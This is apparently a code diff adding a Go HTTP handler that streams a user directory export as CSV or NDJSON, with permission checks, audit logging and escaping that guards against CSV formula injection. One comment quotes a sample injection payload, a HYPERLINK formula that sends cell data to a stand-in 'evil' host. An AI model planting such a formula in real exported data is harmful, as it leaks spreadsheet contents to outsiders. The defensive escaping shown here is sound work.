@@ -0,0 +1,315 @@
+package handler
+
+import (
+	"bufio"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	stderrors "errors"
+	"fmt"
+	"strings"
+	"time"
+
+	"veemon/app/usecase/user"
+	"veemon/entity"
+	pb "veemon/handler/grpc/user"
+	"veemon/pkg/errors"
+	"veemon/pkg/middleware"
+	"veemon/pkg/response"
+
+	"github.com/gofiber/fiber/v2"
+	"go.opentelemetry.io/otel"
+	"go.opentelemetry.io/otel/attribute"
+	otelcodes "go.opentelemetry.io/otel/codes"
+	"go.opentelemetry.io/otel/trace"
+	"go.uber.org/zap"
+)
+
+// UserExportPermission is required to export users. Exporting hands over
+// the whole directory at once, so DefaultPolicy grants it to admins but not
+// to auditors, who can still page through the list.
+const UserExportPermission = "users.export"
+
+// UserExportPath is the export route; its responses may take longer to
+// write than HTTP_WRITE_TIMEOUT allows other routes.
+const UserExportPath = "/api/v1/users/export"
+
+// DefaultUserExportTimeout bounds an export when UserExportConfig.Timeout is
+// zero.
+const DefaultUserExportTimeout = 10 * time.Minute
+
+// UserExportConfig tunes UserExportHandler.
+type UserExportConfig struct {
+	// Timeout bounds an export from its first query to its last write;
+	// a longer one is cut off.
+	Timeout time.Duration
+}
+
+var exportTracer = otel.Tracer("handler")
+
+// exportColumn is a column of an export: its name in the fields parameter,
+// the CSV header and NDJSON keys, and the database column it reads.
+type exportColumn struct {
+	name, column string
+	value        func(*entity.UserSummary) any
+}
+
+// exportColumns are the columns an export may select, in output order.
+var exportColumns = []exportColumn{
+	{"id", "id", func(u *entity.UserSummary) any { return u.ID }},
+	{"email", "email", func(u *entity.UserSummary) any { return u.Email }},
+	{"name", "name", func(u *entity.UserSummary) any { return u.Name }},
+	{"phone", "phone", func(u *entity.UserSummary) any { return u.Phone }},
+	{"status", "status", func(u *entity.UserSummary) any { return string(u.Status) }},
+	{"roles", "roles", func(u *entity.UserSummary) any { return []string(u.Roles) }},
+	{"companyCode", "company_code", func(u *entity.UserSummary) any { return u.CompanyCode }},
+	{"createdAt", "created_at", func(u *entity.UserSummary) any { return u.CreatedAt.UTC().Format(time.RFC3339) }},
+	{"updatedAt", "updated_at", func(u *entity.UserSummary) any { return u.UpdatedAt.UTC().Format(time.RFC3339) }},
+	{"deletedAt", "deleted_at", func(u *entity.UserSummary) any {
+		if !u.DeletedAt.Valid {
+			return nil
+		}
+		return u.DeletedAt.Time.UTC().Format(time.RFC3339)
+	}},
+}
+
+// UserExportHandler serves GET /api/v1/users/export: every user matching
+// ListUsers' search, sortBy, sortOrder and includeDeleted parameters, as
+// format=csv (the default) or format=ndjson, one JSON object per line.
+// fields picks the columns, from id, email, name, phone, status, roles,
+// companyCode, createdAt, updatedAt and deletedAt; by default all of them.
+// CSV joins roles with ";", as the import reads them.
+//
+// The response is streamed as an attachment, a batch of rows read and
+// written at a time, so memory stays flat however many users there are.
+// Once the first byte is sent the status cannot change: an export that fails
+// or runs out of time midway ends short and is logged as failed.
+func UserExportHandler(uc user.UseCase, cfg UserExportConfig, log *zap.Logger) fiber.Handler {
+	if cfg.Timeout <= 0 {
+		cfg.Timeout = DefaultUserExportTimeout
+	}
+	if log == nil {
+		log = zap.NewNop()
+	}
+	h := &userExport{uc: uc, cfg: cfg, log: log}
+	return h.serve
+}
+
+type userExport struct {
+	uc  user.UseCase
+	cfg UserExportConfig
+	log *zap.Logger
+}
+
+func (h *userExport) serve(c *fiber.Ctx) error {
+	authCtx, ok := middleware.GetAuthContext(c)
+	if !ok {
+		return errors.Unauthorized("authentication required").FiberError(c)
+	}
+	if authCtx.IsImpersonated {
+		return errors.Forbidden("not allowed while impersonating a user").FiberError(c)
+	}
+
+	format := c.Query("format", "csv")
+	if format != "csv" && format != "ndjson" {
+		return errors.BadRequest(40013, "format must be csv or ndjson").FiberError(c)
+	}
+	cols, appErr := parseExportFields(c.Query("fields"))
+	if appErr != nil {
+		return appErr.FiberError(c)
+	}
+	columns := make([]string, len(cols))
+	for i, col := range cols {
+		columns[i] = col.column
+	}
+	// The list's parameters, validated as ListUsers validates them.
+	req := &pb.ListUsersReq{
+		Search:         c.Query("search"),
+		SortBy:         c.Query("sortBy"),
+		SortOrder:      c.Query("sortOrder"),
+		IncludeDeleted: c.QueryBool("includeDeleted"),
+	}
+	if err := pb.ValidateRequest(req); err != nil {
+		var appErr *errors.AppError
+		if stderrors.As(err, &appErr) {
+			return appErr.FiberError(c)
+		}
+		return err
+	}
+	// ExportAll runs once the 200 is sent, too late to refuse the sort.
+	if err := user.ValidateSort(req.SortBy, req.SortOrder); err != nil {
+		return invalidSort().FiberError(c)
+	}
+	input := user.ListInput{
+		Search:         req.Search,
+		SortBy:         req.SortBy,
+		SortOrder:      req.SortOrder,
+		Columns:        columns,
+		IncludeDeleted: req.IncludeDeleted,
+	}
+
+	contentType := "text/csv; charset=utf-8"
+	if format == "ndjson" {
+		contentType = "application/x-ndjson"
+	}
+	filename := "users-" + time.Now().UTC().Format("20060102-150405") + "." + format
+	c.Set(fiber.HeaderContentType, contentType)
+	c.Set(fiber.HeaderContentDisposition, `attachment; filename="`+filename+`"`)
+	c.Set(fiber.HeaderCacheControl, "no-store")
+
+	// The body is written after the handler returns, when the request's
+	// context (and REQUEST_TIMEOUT's deadline on it) is already done; the
+	// export keeps its values and gets a deadline of its own.
+	ctx, cancel := context.WithTimeout(context.WithoutCancel(c.UserContext()), h.cfg.Timeout)
+	c.Context().SetBodyStreamWriter(func(w *bufio.Writer) {
+		defer cancel()
+		h.stream(ctx, w, format, cols, input, authCtx)
+	})
+	return nil
+}
+
+// stream writes the export to w, flushing after every batch.
+func (h *userExport) stream(ctx context.Context, w *bufio.Writer, format string, cols []exportColumn, input user.ListInput, authCtx *middleware.AuthContext) {
+	ctx, span := exportTracer.Start(ctx, "handler users.export",
+		trace.WithAttributes(attribute.String("export.format", format)))
+	started := time.Now()
+
+	var records int64
+	write := ndjsonWriter(w, cols)
+	if format == "csv" {
+		write = csvWriter(w, cols)
+	}
+	err := h.uc.ExportAll(ctx, input, func(batch []entity.UserSummary) error {
+		for i := range batch {
+			if err := write(&batch[i]); err != nil {
+				return err
+			}
+			records++
+		}
+		// Flush fails once the client has gone, which stops the export.
+		return w.Flush()
+	})
+	if err == nil {
+		err = w.Flush()
+	}
+
+	span.SetAttributes(attribute.Int64("export.records", records))
+	if err != nil {
+		span.RecordError(err)
+		span.SetStatus(otelcodes.Error, err.Error())
+	}
+	span.End()
+
+	fields := []zap.Field{
+		zap.String("audit_event", "user.export"),
+		zap.String("actor_id", authCtx.UserID),
+		zap.String("actor_email", authCtx.Email),
+		zap.String("format", format),
+		zap.Int64("records", records),
+		zap.Duration("duration", time.Since(started)),
+	}
+	if err != nil {
+		h.log.Error("audit: user export failed", append(fields, zap.Error(err))...)
+		return
+	}
+	h.log.Info("audit: users exported", fields...)
+}
+
+// csvWriter writes the header row, then returns a writer of one user per
+// row.
+func csvWriter(w *bufio.Writer, cols []exportColumn) func(*entity.UserSummary) error {
+	cw := csv.NewWriter(w)
+	record := make([]string, len(cols))
+	for i, col := range cols {
+		record[i] = col.name
+	}
+	_ = cw.Write(record)
+	// An empty export still has its header.
+	cw.Flush()
+	headerErr := cw.Error()
+	return func(u *entity.UserSummary) error {
+		if headerErr != nil {
+			return headerErr
+		}
+		for i, col := range cols {
+			switch v := col.value(u).(type) {
+			case nil:
+				record[i] = ""
+			case []string:
+				record[i] = csvCell(strings.Join(v, ";"))
+			default:
+				record[i] = csvCell(fmt.Sprint(v))
+			}
+		}
+		if err := cw.Write(record); err != nil {
+			return err
+		}
+		// Hand the row to w, whose buffer the batch's Flush sends.
+		cw.Flush()
+		return cw.Error()
+	}
+}
+
+// csvFormulaPrefixes are the first characters that make a spreadsheet
+// evaluate a cell as a formula.
+const csvFormulaPrefixes = "=+-@\t\r"
+
+// csvCell keeps a user-chosen value such as a name of
+// `=HYPERLINK("http://evil/?"&A1)` from running as a formula when the export
+// is opened in a spreadsheet, by prefixing it with a single quote. The import
+// strips the quote again (see csvUncell).
+func csvCell(s string) string {
+	if s != "" && strings.IndexByte(csvFormulaPrefixes, s[0]) >= 0 {
+		return "'" + s
+	}
+	return s
+}
+
+// csvUncell undoes csvCell, so an export can be imported unchanged.
+func csvUncell(s string) string {
+	if len(s) > 1 && s[0] == '\'' && strings.IndexByte(csvFormulaPrefixes, s[1]) >= 0 {
+		return s[1:]
+	}
+	return s
+}
+
+// ndjsonWriter returns a writer of one user per line, as a JSON object of
+// the selected columns.
+func ndjsonWriter(w *bufio.Writer, cols []exportColumn) func(*entity.UserSummary) error {
+	enc := json.NewEncoder(w)
+	return func(u *entity.UserSummary) error {
+		obj := make(map[string]any, len(cols))
+		for _, col := range cols {
+			obj[col.name] = col.value(u)
+		}
+		return enc.Encode(obj)
+	}
+}
+
+// parseExportFields resolves the fields parameter to export columns, in
+// exportColumns order; empty selects every column.
+func parseExportFields(fields string) ([]exportColumn, *errors.AppError) {
+	names := response.ParseFields(fields)
+	if len(names) == 0 {
+		return exportColumns, nil
+	}
+	want := make(map[string]bool, len(names))
+	for _, n := range names {
+		want[n] = true
+	}
+	var cols []exportColumn
+	allowed := make([]string, len(exportColumns))
+	for i, col := range exportColumns {
+		allowed[i] = col.name
+		if want[col.name] {
+			cols = append(cols, col)
+			delete(want, col.name)
+		}
+	}
+	for _, n := range names {
+		if want[n] {
+			return nil, errors.BadRequest(40003, fmt.Sprintf("unknown field %q in fields; allowed: %s", n, strings.Join(allowed, ", ")))
+		}
+	}
+	return cols, nil
+}